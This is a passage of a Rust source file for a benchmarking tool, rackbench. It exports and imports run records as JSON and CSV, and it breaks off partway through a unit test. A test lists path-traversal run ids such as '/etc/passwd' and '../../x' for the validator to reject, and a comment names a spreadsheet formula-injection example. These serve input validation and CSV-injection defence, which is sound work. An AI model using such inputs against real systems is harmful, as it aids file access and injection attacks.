//! Export and import formats: pure functions of model types.
//!
//! - JSON: always the document `{"format_version": 1, "runs": [RunRecord...]}` (pretty),
//!   whatever the number of runs, so a reader handles one shape. `schema/run.schema.json`
//!   pins it and a test checks real output against it. [`from_json`] reads it back, and
//!   also accepts a bare RunRecord (`rackbench show RUN --json`) or an array of them.
//! - CSV: long form, one row per figure, for spreadsheets and dataframes. Columns are
//!   [`CSV_COLUMNS`]. Rows come from: every metric; every missing metric (empty value,
//!   `reason=...` in labels: never a 0); the summary of every histogram
//!   (`latency_p99_ns`..., labels `histogram=NAME;kind=KIND`) unless a metric with the
//!   same name and labels exists; the telemetry summary of every host (`cpu_busy_pct`,
//!   `power_mean_w`, `nic_rx_bytes_per_s`..., host column = that host); idle power per
//!   host (`idle_power_mean_w`, no step). The host column of a metric is the host whose
//!   figure it is: its `host` label (a load generator's share); a net pair's sender or
//!   receiver by the end that measured it ([`model::net_figure_end`]), `SENDER>RECEIVER`
//!   for a figure of the pair; the merged generators (`rbh2+rbh3`, those that reported:
//!   [`model::merged_generators`]) for theirs ([`model::of_the_generators`]: `loadgen_*`,
//!   how they started, the bytes their clients sent and received); the host a missing
//!   figure names (`telemetry.HOST`, `NAME{host=HOST}`); the point's system under test
//!   (`sut_host`); else the run's. `params` and `labels` are `k=v;k=v` (a string
//!   value holding `;`, `=` or a leading `"` is written as a JSON string). `flags` is
//!   `SEVERITY:CODE;...` (`SEVERITY:CODE@HOST` for a flag of one host), plus
//!   `status:STATUS` for a result that did not end ok.
//!   `settings` (after the others, so that they keep their places) is every setting the
//!   result ran with, defaults included, as `params` is written; empty for a result
//!   stored before settings were kept. `headline` (last) is `true` on the row of the
//!   result's headline figure (its metric unlabelled, or missing with its reason), the one
//!   the report and summaries take, and `false` on every other row.

use std::collections::BTreeMap;
use std::io::Write;

use anyhow::{bail, Context};
use model::{ResultRecord, RunRecord, Severity, Status};
use serde::{Deserialize, Serialize};

/// The CSV crate the exporter writes with, for readers (tests, tools) of its output.
pub use csv;

/// Version of the export document's outer shape (each run carries its own
/// `format_version`, model::RECORD_FORMAT_VERSION).
pub const EXPORT_FORMAT_VERSION: u32 = 1;

/// Header of the long-form CSV.
pub const CSV_COLUMNS: [&str; 15] = [
    "run_id",
    "label",
    "host",
    "workload",
    "test",
    "step",
    "repetition",
    "params",
    "metric",
    "value",
    "unit",
    "labels",
    "flags",
    "settings",
    "headline",
];

/// How many of [`CSV_COLUMNS`] the exports of earlier versions have (their header is
/// these first ones): before `settings` was added, and before `headline`.
pub const CSV_PAST_WIDTHS: [usize; 2] = [13, 14];

#[derive(Serialize)]
struct DocRef<'a> {
    format_version: u32,
    runs: &'a [RunRecord],
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Doc {
    /// Checked on the raw value first, so a newer document gets "upgrade", not a parse error.
    #[serde(rename = "format_version")]
    _format_version: u32,
    runs: Vec<RunRecord>,
}

/// The export document, pretty-printed (no trailing newline).
pub fn to_json(runs: &[RunRecord]) -> String {
    serde_json::to_string_pretty(&DocRef {
        format_version: EXPORT_FORMAT_VERSION,
        runs,
    })
    // Every map in the model has string keys, the only way serde_json can fail here.
    .expect("run records serialize to JSON")
}

/// Runs from an export document (or a bare RunRecord, or an array of them).
pub fn from_json(s: &str) -> anyhow::Result<Vec<RunRecord>> {
    let v: serde_json::Value = serde_json::from_str(s)
        .context("not JSON; expected a rackbench export (`rackbench export --format json`)")?;
    // The runs, and each one's raw object, to find what parsing would drop.
    let (mut runs, raw): (Vec<RunRecord>, Vec<&serde_json::Value>) = match &v {
        serde_json::Value::Object(o) if o.contains_key("runs") => {
            let version = o.get("format_version").and_then(|v| v.as_u64());
            match version {
                None => bail!("export document without a numeric `format_version`"),
                Some(n) if n > u64::from(EXPORT_FORMAT_VERSION) => bail!(
                    "export document format {n} is newer than this rackbench understands \
                     ({EXPORT_FORMAT_VERSION}); upgrade rackbench"
                ),
                Some(_) => {}
            }
            // Parse the text again (not the Value) so errors carry line and column.
            let runs = serde_json::from_str::<Doc>(s)
                .context("not a valid rackbench export document")?
                .runs;
            // A valid document's `runs` is an array.
            (runs, o["runs"].as_array().into_iter().flatten().collect())
        }
        serde_json::Value::Object(o) if o.contains_key("results") => (
            vec![serde_json::from_str::<RunRecord>(s).context("not a valid rackbench run record")?],
            vec![&v],
        ),
        serde_json::Value::Array(a) => (
            serde_json::from_str::<Vec<RunRecord>>(s)
                .context("not a valid array of rackbench run records")?,
            a.iter().collect(),
        ),
        _ => bail!(
            "not a rackbench export: expected {{\"format_version\": 1, \"runs\": [...]}} \
             (`rackbench export --format json`)"
        ),
    };
    let mut ids = std::collections::BTreeSet::new();
    for (r, raw) in runs.iter().zip(raw) {
        if !ids.insert(r.id.as_str()) {
            bail!(
                "run {} is in the file twice: an export holds each run once; keep the copy \
                 you want",
                r.id
            );
        }
        if r.format_version > model::RECORD_FORMAT_VERSION {
            bail!(
                "run {} has record format {}, newer than this rackbench understands ({}); upgrade rackbench",
                r.id,
                r.format_version,
                model::RECORD_FORMAT_VERSION
            );
        }
        if let Some(path) = unknown_field(raw, &serde_json::to_value(r)?, String::new()) {
            bail!(
                "run {}: `{path}` is no field of a rackbench run record (format {}), and \
                 importing would drop it: if the file was edited, restore the field's name; \
                 if a newer rackbench wrote it, upgrade rackbench",
                r.id,
                model::RECORD_FORMAT_VERSION
            );
        }
        check_importable(r)?;
    }
    // Records written before the rule meet new ones at their test's point, as the
    // store's own do when read.
    for r in runs.iter_mut().flat_map(|r| &mut r.results) {
        r.drop_unread();
    }
    Ok(runs)
}

/// The first field of `raw` (a run as read) that parsing dropped, as a path
/// (`results[0].flgs`): one `parsed` (the record parsed and written again) does not
/// have. A field left out because it holds its default (no flags, no label) is no loss.
fn unknown_field(
    raw: &serde_json::Value,
    parsed: &serde_json::Value,
    path: String,
) -> Option<String> {
    use serde_json::Value;
    let empty = |v: &Value| match v {
        Value::Null => true,
        Value::Bool(b) => !b,
        Value::Number(n) => n.as_f64() == Some(0.0),
        Value::String(s) => s.is_empty(),
        Value::Array(a) => a.is_empty(),
        Value::Object(o) => o.is_empty(),
    };
    let at = |k: &str| {
        if path.is_empty() {
            k.to_string()
        } else {
            format!("{path}.{k}")
        }
    };
    match (raw, parsed) {
        (Value::Object(r), Value::Object(p)) => r.iter().find_map(|(k, v)| match p.get(k) {
            Some(pv) => unknown_field(v, pv, at(k)),
            None => (!empty(v)).then(|| at(k)),
        }),
        (Value::Array(r), Value::Array(p)) => r
            .iter()
            .zip(p)
            .enumerate()
            .find_map(|(i, (v, pv))| unknown_field(v, pv, format!("{path}[{i}]"))),
        _ => None,
    }
}

/// Longest run id accepted from outside (rackbench's own are 22 characters).
const MAX_RUN_ID: usize = 64;

/// Whether `id` can name a run: what rackbench writes (`20261120T210703-a1b2c3`) and
/// other plain names, never a path (`../x`, `/etc`), a word with a meaning of its own
/// (`latest`) or text that would confuse a terminal or a shell.
pub fn valid_run_id(id: &str) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.');
    (1..=MAX_RUN_ID).contains(&id.len())
        && id.starts_with(|c: char| c.is_ascii_alphanumeric())
        && id.chars().all(plain)
        && !id.contains("..")
        && id != crate::LATEST
}

/// Refuse a run read from outside (an import) with values no run of rackbench can have:
/// an id that is not a plain name, a negative or non-finite duration, a histogram that
/// does not decode. The store then only ever holds what rackbench itself could write.
pub fn check_importable(run: &RunRecord) -> anyhow::Result<()> {
    if !valid_run_id(&run.id) {
        bail!(
            "run id {:?} is not a rackbench run id (letters, digits, `-`, `_`, `.`; at most {MAX_RUN_ID})",
            run.id.chars().take(80).collect::<String>()
        );
    }
    if run.format_version == 0 {
        bail!(
            "run {}: record format 0 is none rackbench wrote (its formats start at 1): the \
             export was edited or damaged; export the run again with `rackbench export`",
            run.id
        );
    }
    // Two results of one point, test and repetition would read as two repetitions.
    let mut seen = std::collections::BTreeSet::new();
    for r in &run.results {
        let key = (
            &r.workload,
            r.step,
            &r.test,
            r.repetition,
            serde_json::to_string(&r.params)?,
        );
        if !seen.insert(key) {
            bail!(
                "run {}: step {} ({}) repetition {} is in it twice: it would read as a \
                 repetition never measured; the export was edited or damaged",
                run.id,
                r.step,
                r.test,
                r.repetition
            );
        }
    }
    let duration = |what: String, d: f64| -> anyhow::Result<()> {
        if !(d.is_finite() && d >= 0.0) {
            bail!("run {}: {what} has duration {d} s", run.id);
        }
        Ok(())
    };
    for idle in &run.idle_power {
        duration(format!("idle power of {}", idle.host), idle.duration_s)?;
    }
    for r in &run.results {
        duration(format!("step {} ({})", r.step, r.test), r.duration_s)?;
        for h in &r.histograms {
            let decoded = h.histogram().map_err(|e| {
                anyhow::anyhow!("run {}: step {} ({}): {e}", run.id, r.step, r.test)
            })?;
            // `show` and the CSV read the summary, the report decodes the histogram: an
            // edited summary would give one result two p99s. Its counted figures must be
            // the histogram's (the mean and deviation are sums of floats: left alone).
            let (got, want) = (&h.summary, model::LatencySummary::of(&decoded));
            let counted = |s: &model::LatencySummary| {
                [
                    s.count, s.min_ns, s.p50_ns, s.p90_ns, s.p99_ns, s.p999_ns, s.max_ns,
                ]
            };
            if counted(got) != counted(&want) {
                bail!(
                    "run {}: step {} ({}): histogram {}'s summary (count {}, p99 {} ns) is not its \
                     data's (count {}, p99 {} ns): the export was edited or damaged",
                    run.id,
                    r.step,
                    r.test,
                    h.name,
                    got.count,
                    got.p99_ns,
                    want.count,
                    want.p99_ns
                );
            }
        }
    }
    Ok(())
}

/// Long-form CSV of the runs (header included).
pub fn to_csv<W: Write>(runs: &[RunRecord], w: W) -> anyhow::Result<()> {
    let mut out = csv::Writer::from_writer(w);
    out.write_record(CSV_COLUMNS)?;
    for run in runs {
        let default_host = crate::summary_host(&run.hosts);
        // `local` means "the machine rackbench ran on": name it as the disclosure does
        // (the report's host views name it the same way).
        let host_name = |h: &str| -> String { model::host_display_name(&run.hosts, h) };
        let label = run.label.clone().unwrap_or_default();
        // The flags of the idle power whose rows are being written.
        let idle_flags = std::cell::RefCell::new(Vec::<String>::new());
        let mut emit = |host: &str,
                        r: Option<&ResultRecord>,
                        metric: &str,
                        value: String,
                        unit: &str,
                        labels: &BTreeMap<String, String>|
         -> anyhow::Result<()> {
            let (workload, test, step, rep, params, flags, settings) = match r {
                Some(r) => (
                    r.workload.as_str(),
                    r.test.as_str(),
                    r.step.to_string(),
                    r.repetition.to_string(),
                    join_params(&r.params),
                    flags_cell(r, &host_name),
                    join_params(&r.settings),
                ),
                // The run's idle power: its flags (an idle window that was not idle).
                None => (
                    "",
                    "",
                    String::new(),
                    String::new(),
                    String::new(),
                    idle_flags.borrow().join(";"),
                    String::new(),
                ),
            };
            // The headline's own row: its figure unlabelled (a labelled one is a share or
            // a class of it), or said missing (its only label the reason).
            let headline =
                r.is_some_and(|r| r.headline == metric && labels.keys().all(|k| k == "reason"));
            let labels = join_labels(labels);
            out.write_record([
                inert(&run.id),
                inert(&label),
                inert(host),
                inert(workload),
                inert(test),
                inert(&step),
                inert(&rep),
                inert(&params),
                inert(metric),
                // A number (possibly negative), written by `num`: never a formula.
                value,
                inert(unit),
                inert(&labels),
                inert(&flags),
                inert(&settings),
                headline.to_string(),
            ])?;
            Ok(())
        };

        for idle in &run.idle_power {
            *idle_flags.borrow_mut() = flag_words(&idle.flags, &host_name);
            for p in &idle.power {
                let host = host_name(&idle.host);
                emit(
                    &host,
                    None,
                    "idle_power_mean_w",
                    num(p.mean_watts),
                    "W",
                    &power_labels(p.source.as_str(), &p.zone, p.whole_system, p.modelled),
                )?;
                emit(
                    &host,
                    None,
                    "idle_power_max_w",
                    num(p.max_watts),
                    "W",
                    &power_labels(p.source.as_str(), &p.zone, p.whole_system, p.modelled),
                )?;
            }
        }

        for r in &run.results {
            let param = |k: &str| r.params.get(k).and_then(|v| v.as_str());
            let pair = param("sender_host").zip(param("receiver_host"));
            let point_host = param("sut_host")
                .or_else(|| param("receiver_host"))
                .map_or_else(|| default_host.clone(), host_name);
            // The generators' merged figures ([`model::of_the_generators`]: `loadgen_busy_pct`
            // with no `host` label, their clients' byte counters) are theirs, not the
            // system under test's: named as the merged generators, `rbh2+rbh3`, as a net
            // pair's figure of both ends is `rbh1>rbh2`; after a generator was lost, as the
            // survivors ([`model::merged_generators`]).
            let generators = model::merged_generators(r).map(|hosts| {
                hosts
                    .into_iter()
                    .map(host_name)
                    .collect::<Vec<_>>()
                    .join("+")
            });
            // Whose figure a metric (or a missing one) is: see the module's summary.
            let host_of = |name: &str, labels: &BTreeMap<String, String>| -> String {
                if let Some(h) = labels.get("host") {
                    return host_name(h);
                }
                if let Some(g) = generators
                    .as_ref()
                    .filter(|_| model::of_the_generators(name))
                {
                    return g.clone();
                }
                match pair {
                    Some((s, d)) => match model::net_figure_end(name, labels) {
                        model::PairEnd::Sender => host_name(s),
                        model::PairEnd::Receiver => host_name(d),
                        model::PairEnd::Both => format!("{}>{}", host_name(s), host_name(d)),
                    },
                    None => point_host.clone(),
                }
            };
            for m in &r.metrics {
                let host = host_of(&m.name, &m.labels);
                // In the unit every table gives it (an RSA sign's rate in signs/s).
                let unit = model::display_unit(&m.name, &m.unit);
                emit(&host, Some(r), &m.name, num(m.value), &unit, &m.labels)?;
            }
            for m in &r.missing {
                // A missing figure's name carries its labels (`end=sender`), a host's own
                // its host: `loadgen_busy_pct{host=rbh3}`, `telemetry.rbh3` (they were
                // filed under the server's host).
                let (base, mut own) = model::inline_labels(&m.name);
                if let Some(h) = m.name.strip_prefix("telemetry.") {
                    own.insert("host".into(), h.into());
                }
                emit(
                    &host_of(base, &own),
                    Some(r),
                    &m.name,
                    String::new(),
                    // The unit its name says (it had none: `power_mean_w` with no W).
                    model::unit_by_name(base).unwrap_or_default(),
                    &labels([("reason", m.reason.as_str())]),
                )?;
            }
            // Requests' latency only: connect times are the `connect_time_*` metrics above,
            // never rows named `latency_*`.
            for h in r.histograms.iter().filter(|h| h.is_request_latency()) {
                let s = &h.summary;
                let l = labels([("histogram", h.name.as_str()), ("kind", h.kind.as_str())]);
                let stats: [(&str, f64, &str); 9] = [
                    ("latency_count", s.count as f64, "count"),
                    ("latency_min_ns", s.min_ns as f64, "ns"),
                    ("latency_mean_ns", s.mean_ns, "ns"),
                    ("latency_stdev_ns", s.stdev_ns, "ns"),
                    ("latency_p50_ns", s.p50_ns as f64, "ns"),
                    ("latency_p90_ns", s.p90_ns as f64, "ns"),
                    ("latency_p99_ns", s.p99_ns as f64, "ns"),
                    ("latency_p999_ns", s.p999_ns as f64, "ns"),
                    ("latency_max_ns", s.max_ns as f64, "ns"),
                ];
                for (name, value, unit) in stats {
                    // A histogram that recorded nothing (every request of an operation
                    // failed) has a count of 0 and no latency: not latencies of 0.
                    if s.count == 0 && name != "latency_count" {
                        continue;
                    }
                    if r.metrics.iter().any(|m| m.name == name && m.labels == l) {
                        continue;
                    }
                    // Histogram units other than ns are not produced today; keep the
                    // stored unit rather than claim ns.
                    let unit = if unit == "ns" { h.unit.as_str() } else { unit };
                    emit(&point_host, Some(r), name, num(value), unit, &l)?;
                }
            }
            for t in &r.telemetry_summary {
                let host = host_name(&t.host);
                telemetry_rows(t, |name, value, unit, l| {
                    emit(&host, Some(r), name, num(value), unit, &l)
                })?;
                if let Some(reason) = &t.power_missing {
                    emit(
                        &host,
                        Some(r),
                        "power_mean_w",
                        String::new(),
                        "W",
                        &labels([("reason", reason.as_str())]),
                    )?;
                }
            }
        }
    }
    out.flush()?;
    Ok(())
}

fn telemetry_rows(
    t: &model::TelemetrySummary,
    mut emit: impl FnMut(&str, f64, &str, BTreeMap<String, String>) -> anyhow::Result<()>,
) -> anyhow::Result<()> {
    for c in &t.cpus {
        let l = if c.cpu < 0 {
            BTreeMap::new()
        } else {
            labels([("cpu", c.cpu.to_string().as_str())])
        };
        emit("cpu_busy_pct", c.busy_pct(), "%", l.clone())?;
        emit("cpu_usr_pct", c.usr_pct, "%", l.clone())?;
        emit("cpu_nice_pct", c.nice_pct, "%", l.clone())?;
        emit("cpu_sys_pct", c.sys_pct, "%", l.clone())?;
        emit("cpu_iowait_pct", c.iowait_pct, "%", l.clone())?;
        emit("cpu_irq_pct", c.irq_pct, "%", l.clone())?;
        emit("cpu_soft_pct", c.soft_pct, "%", l.clone())?;
        // Steal too, what the `steal` warning is about: with it the shares add to 100.
        emit("cpu_steal_pct", c.steal_pct, "%", l.clone())?;
        emit("cpu_idle_pct", c.idle_pct, "%", l)?;
    }
    // Not counted (no `ctxt` or `intr` line in /proc/stat) is no row, not a 0.
    if let Some(v) = t.ctxt_per_s {
        emit("ctxt_per_s", v, "1/s", BTreeMap::new())?;
    }
    if let Some(v) = t.intr_per_s {
        emit("intr_per_s", v, "1/s", BTreeMap::new())?;
    }
    if let Some(f) = t.mean_freq_mhz {
        emit("cpu_freq_mean_mhz", f, "MHz", BTreeMap::new())?;
    }
    for n in &t.nics {
        let l = labels([("nic", n.name.as_str())]);
        emit("nic_rx_bytes_per_s", n.rx_bytes_per_s, "B/s", l.clone())?;
        emit("nic_tx_bytes_per_s", n.tx_bytes_per_s, "B/s", l.clone())?;
        emit(
            "nic_rx_packets_per_s",
            n.rx_packets_per_s,
            "packets/s",
            l.clone(),
        )?;
        emit(
            "nic_tx_packets_per_s",
            n.tx_packets_per_s,
            "packets/s",
            l.clone(),
        )?;
        emit(
            "nic_rx_drops_per_s",
            n.rx_drops_per_s,
            "packets/s",
            l.clone(),
        )?;
        emit("nic_tx_drops_per_s", n.tx_drops_per_s, "packets/s", l)?;
    }
    for d in &t.disks {
        let l = labels([("disk", d.name.as_str())]);
        emit("disk_reads_per_s", d.reads_per_s, "1/s", l.clone())?;
        emit("disk_writes_per_s", d.writes_per_s, "1/s", l.clone())?;
        emit(
            "disk_read_bytes_per_s",
            d.read_bytes_per_s,
            "B/s",
            l.clone(),
        )?;
        emit(
            "disk_write_bytes_per_s",
            d.write_bytes_per_s,
            "B/s",
            l.clone(),
        )?;
        emit("disk_util_pct", d.util_pct, "%", l)?;
    }
    for p in &t.procs {
        // The pid too: a server restarted during the test is two processes of one role,
        // and without it their rows could not be told apart.
        let pid = p.pid.to_string();
        let l = labels([("role", p.role.as_str()), ("pid", pid.as_str())]);
        emit("proc_usr_pct", p.usr_pct, "% of one CPU", l.clone())?;
        emit("proc_sys_pct", p.sys_pct, "% of one CPU", l)?;
    }
    for p in &t.power {
        let l = power_labels(&p.source, &p.zone, p.whole_system, p.modelled);
        emit("power_mean_w", p.mean_watts, "W", l.clone())?;
        emit("power_max_w", p.max_watts, "W", l)?;
    }
    Ok(())
}

fn power_labels(
    source: &str,
    zone: &str,
    whole_system: bool,
    modelled: bool,
) -> BTreeMap<String, String> {
    labels([
        ("source", source),
        ("zone", zone),
        ("whole_system", if whole_system { "true" } else { "false" }),
        ("modelled", if modelled { "true" } else { "false" }),
    ])
}

fn labels<const N: usize>(pairs: [(&str, &str); N]) -> BTreeMap<String, String> {
    pairs
        .into_iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

/// A number as CSV text: exact (shortest round-trip), exponent only at the extremes,
/// empty for NaN (a NaN is not a figure).
fn num(v: f64) -> String {
    if v.is_nan() {
        String::new()
    } else if v != 0.0 && v.is_finite() && (v.abs() < 1e-6 || v.abs() >= 1e21) {
        format!("{v:e}")
    } else {
        format!("{v}")
    }
}

fn kv_value(s: &str) -> String {
    if s.contains(';') || s.contains('=') || s.starts_with('"') {
        serde_json::Value::String(s.to_string()).to_string()
    } else {
        s.to_string()
    }
}

fn join_params(params: &BTreeMap<String, serde_json::Value>) -> String {
    params
        .iter()
        .map(|(k, v)| match v {
            serde_json::Value::String(s) => format!("{k}={}", kv_value(s)),
            other => format!("{k}={other}"),
        })
        .collect::<Vec<_>>()
        .join(";")
}

/// A text cell a spreadsheet will not run: one starting with `=`, `+`, `-`, `@`, a tab
/// or a carriage return is read as a formula by Excel and LibreOffice (a label
/// `=HYPERLINK(...)`, or an imported run's test name), so it gets a leading `'`, as
/// OWASP's CSV-injection advice has it. The value column holds numbers and is left alone.
fn inert(cell: &str) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell.to_string()
    }
}

fn join_labels(labels: &BTreeMap<String, String>) -> String {
    labels
        .iter()
        .map(|(k, v)| format!("{k}={}", kv_value(v)))
        .collect::<Vec<_>>()
        .join(";")
}

/// A result's flags (`warning:other_load@rbh2`: a per-host flag names its host, as a
/// disclosure names it, so that three hosts' `other_load` are told apart), then its
/// status where it did not end ok.
fn flags_cell(r: &ResultRecord, host_name: &dyn Fn(&str) -> String) -> String {
    let mut parts = flag_words(&r.flags, host_name);
    let status = match r.status {
        Status::Ok => None,
        Status::Interrupted => Some("interrupted"),
        Status::Failed => Some("failed"),
        Status::Running => Some("running"),
    };
    if let Some(s) = status {
        parts.push(format!("status:{s}"));
    }
    parts.join(";")
}

/// Each flag as the CSV's flags cell gives it: `warning:steal@host`.
fn flag_words(flags: &[model::Flag], host_name: &dyn Fn(&str) -> String) -> Vec<String> {
    flags
        .iter()
        .map(|f| {
            let sev = match f.severity {
                Severity::Warning => "warning",
                Severity::Invalid => "invalid",
            };
            match f.host() {
                Some(h) => format!("{sev}:{}@{}", f.code, host_name(h)),
                None => format!("{sev}:{}", f.code),
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fixtures;
    use model::{HistogramRecord, Metric};

    #[test]
    fn json_round_trips_exactly() {
        let runs = vec![
            fixtures::rich_run("20261120T210703-aaaaaa", Some("arm"), fixtures::t0(0), 3),
            fixtures::rich_run("20261120T210803-bbbbbb", None, fixtures::t0(60), 1),
        ];
        let text = to_json(&runs);
        assert!(text.starts_with("{\n  \"format_version\": 1,\n  \"runs\": ["));
        assert_eq!(from_json(&text).unwrap(), runs);
        // A bare record and an array are accepted too.
        let one = serde_json::to_string(&runs[0]).unwrap();
        assert_eq!(from_json(&one).unwrap(), vec![runs[0].clone()]);
        let arr = serde_json::to_string(&runs).unwrap();
        assert_eq!(from_json(&arr).unwrap(), runs);
    }

    #[test]
    fn fuzz_regression_impossible_runs_are_not_imported() {
        // Run ids that look like paths, negative durations and bad base64 histograms
        // were imported as they came.
        let import = |f: &dyn Fn(&mut RunRecord)| {
            let mut run = fixtures::rich_run("20261120T210703-aaaaaa", None, fixtures::t0(0), 2);
            f(&mut run);
            from_json(&to_json(&[run]))
        };
        assert!(import(&|_| {}).is_ok());
        for id in [
            "../../x",
            "/etc/passwd",
            "",
            "latest",
            "a/b",
            ".hidden",
            "a\nb",
            "a..b",
        ] {
            let err = import(&|r| r.id = id.into()).unwrap_err();
            assert!(
                format!("{err:#}").contains("not a rackbench run id"),
                "{id}: {err:#}"
            );
        }
        assert!(import(&|r| r.id = "x".repeat(65)).is_err());
        assert!(import(&|r| r.results[0].duration_s = -1.0).is_err());
        assert!(import(&|r| r.idle_power[0].duration_s = -0.5).is_err());
        let err = import(&|r| r.results[1].histograms[0].encoded = "%%%".into()).unwrap_err();
        assert!(format!("{err:#}").contains("base64"), "{err:#}");
        let err = import(&|r| r.results[1].histograms[0].summary.p99_ns /= 2).unwrap_err();
        assert!(format!("{err:#}").contains("is not its data's"), "{err:#}");
    }

    #[test]
    fn json_rejects_newer_and_foreign_documents() {
        let err = from_json(r#"{"format_version": 2, "runs": []}"#).unwrap_err();
        assert!(format!("{err:#}").contains("newer"), "{err:#}");
        let err = from_json(r#"{"hello": 1}"#).unwrap_err();
        assert!(format!("{err:#}").contains("rackbench export"), "{err:#}");
        let err = from_json("not json").unwrap_err();
        assert!(format!("{err:#}").contains("not JSON"), "{err:#}");
        // A renamed field is an error with a position, not a silent default.
        let runs = vec![fixtures::rich_run("r1", None, fixtures::t0(0), 1)];
        let bad = to_json(&runs).replace("\"rackbench_version\"", "\"rb_version\"");
        let err = from_json(&bad).unwrap_err();
        assert!(format!("{err:#}").contains("line"), "{err:#}");
    }

    /// What parsing would drop or no run of rackbench can hold is refused, naming it: a
    /// renamed optional field (`label`, a result's `flags`: an invalid result came back
    /// valid), a repetition twice (read as one more repetition), format 0, one run twice
    /// in a file (its first copy was imported, then the store was blamed). (An end before
    /// the start is a clock stepped back, which the store keeps as it was.)
    #[test]
    fn json_refuses_what_it_would_drop_or_misread() {
        let run = fixtures::rich_run("20261120T210703-aaaaaa", Some("arm"), fixtures::t0(0), 2);
        assert!(run.results.iter().any(|r| !r.flags.is_empty()));
        let text = to_json(std::slice::from_ref(&run));
        let refused = |text: &str, says: &str| {
            let err = format!("{:#}", from_json(text).unwrap_err());
            assert!(err.contains(says), "{says}: {err}");
        };
        refused(
            &text.replacen("\"label\"", "\"lable\"", 1),
            "`lable` is no field of a rackbench run record",
        );
        refused(
            &text.replace("\"flags\"", "\"flgs\""),
            "].flgs` is no field",
        );
        let bumped = |f: &dyn Fn(&mut RunRecord)| {
            let mut r = run.clone();
            f(&mut r);
            to_json(&[r])
        };
        refused(
            &bumped(&|r| {
                let again = r.results[0].clone();
                r.results.push(again)
            }),
            "repetition 0 is in it twice",
        );
        refused(&bumped(&|r| r.format_version = 0), "record format 0");
        refused(
            &to_json(&[run.clone(), run.clone()]),
            "is in the file twice",
        );
        // A default left out, or an empty field of no meaning here, is no loss.
        let mut plain = run.clone();
        plain.label = None;
        let t = to_json(&[plain]);
        assert!(from_json(&t).is_ok());
        let t = t.replacen("\"label\": null", "\"label\": null, \"notes\": []", 1);
        if let Err(e) = from_json(&t) {
            panic!("{e:#}");
        }
    }

    #[test]
    fn csv_is_escaped_and_parses_back() {
        let runs = vec![fixtures::rich_run(
            "r1",
            Some("lab,el \"x\""),
            fixtures::t0(0),
            2,
        )];
        let mut buf = Vec::new();
        to_csv(&runs, &mut buf).unwrap();
        let text = String::from_utf8(buf).unwrap();
        // The awkward metric's unit holds a comma, quotes and a newline: quoted, doubled.
        assert!(text.contains("\"x, \"\"y\"\"\nz\""), "{text}");

        let mut rd = csv::Reader::from_reader(text.as_bytes());
        assert_eq!(
            rd.headers().unwrap().iter().collect::<Vec<_>>(),
            CSV_COLUMNS
        );
        let rows: Vec<csv::StringRecord> = rd.records().map(|r| r.unwrap()).collect();
        assert!(rows.iter().all(|r| r.len() == CSV_COLUMNS.len()));
        let find = |metric: &str, labels: &str, step: &str| {
            rows.iter()
                .find(|r| &r[8] == metric && &r[11] == labels && &r[5] == step)
                .unwrap_or_else(|| panic!("no row {metric} {labels} step {step}"))
        };
        let weird = find("weird", "k,1=v\"2\n", "0");
        assert_eq!(&weird[1], "lab,el \"x\"");
        assert_eq!(&weird[9], "0.30000000000000004");
        assert_eq!(&weird[10], "x, \"y\"\nz");
        assert_eq!(
            &weird[12],
            "warning:client_bound;invalid:errors;status:failed"
        );
        assert_eq!(&weird[2], "altra-01");
        // Params: varying, JSON-quoted string that holds `;`.
        assert!(weird[7].contains("pipeline=1;"), "{}", &weird[7]);
        assert!(
            weird[7].contains("note=\"a \\\"quoted\\\", comma; semi\""),
            "{}",
            &weird[7]
        );
        let head = find("ops_per_s", "", "1");
        assert_eq!(
            head[9].parse::<f64>().unwrap(),
            runs[0].results[1].metrics[0].value
        );
        assert_eq!(&find("tiny", "", "0")[9], "5e-324");
        assert_eq!(&find("huge", "", "0")[9], "1.7976931348623157e308");
        // Missing metric: empty value, reason in labels.
        let miss = find(
            "cache_hit_ratio",
            "reason=server INFO not readable: NOAUTH",
            "0",
        );
        assert_eq!(&miss[9], "");
        // A name that says no unit has none.
        assert_eq!(&miss[10], "");
        // Histogram summary rows.
        let p99 = find("latency_p99_ns", "histogram=set;kind=service", "0");
        assert_eq!(
            p99[9].parse::<u64>().unwrap(),
            runs[0].results[0].histograms[0].summary.p99_ns
        );
        // Telemetry rows carry their own host; power missing is a row without a value.
        let pm = rows
            .iter()
            .find(|r| &r[8] == "power_mean_w" && &r[2] == "loadgen-1 ünïcode")
            .unwrap();
        assert_eq!(&pm[9], "");
        assert!(pm[11].starts_with("reason="));
        // In the unit its name says, as a measured one is (it had none).
        assert_eq!(&pm[10], "W");
        let busy = find("cpu_busy_pct", "cpu=0", "0");
        assert_eq!(&busy[2], "altra-01");
        let idle = rows.iter().find(|r| &r[8] == "idle_power_mean_w").unwrap();
        assert_eq!(&idle[5], "");
        // Steal and nice beside the other shares (audit, 8).
        for m in ["cpu_steal_pct", "cpu_nice_pct"] {
            find(m, "cpu=0", "0");
        }
    }

    /// An idle window that was not idle says so beside its watts (audit, 8): the cell
    /// was always empty.
    #[test]
    fn csv_idle_power_carries_its_flags() {
        let mut run = fixtures::rich_run("r-idle", None, fixtures::t0(0), 1);
        let idle = run
            .idle_power
            .first_mut()
            .expect("the fixture has idle power");
        idle.flags = vec![model::Flag::warning("idle_not_idle", "busy")];
        let rows = csv_rows(run);
        let idle = rows.iter().find(|r| &r[8] == "idle_power_mean_w").unwrap();
        assert_eq!(&idle[12], "warning:idle_not_idle", "{idle:?}");
        let result_row = rows.iter().find(|r| !r[5].is_empty()).unwrap();
        assert!(!result_row[12].contains("idle_not_idle"));
    }

    /// A process's rows name its pid beside its role: a server restarted during the test
    /// is two processes of one role, each its own row.
    #[test]
    fn csv_proc_rows_carry_role_and_pid() {
        let mut run = fixtures::rich_run("r1", None, fixtures::t0(0), 1);
        let procs = &mut run.results[0].telemetry_summary[0].procs;
        let mut again = procs[0].clone();
        again.pid += 100;
        let (role, pid) = (again.role.clone(), again.pid);
        procs.push(again);
        let rows = csv_rows(run);
        for metric in ["proc_usr_pct", "proc_sys_pct"] {
            let labels: Vec<&str> = rows
                .iter()
                .filter(|r| &r[8] == metric && r[11].contains(&format!("role={role}")))
                .map(|r| &r[11])
                .collect();
            // The first host's two, and the other host's generator (the fixture's pid).
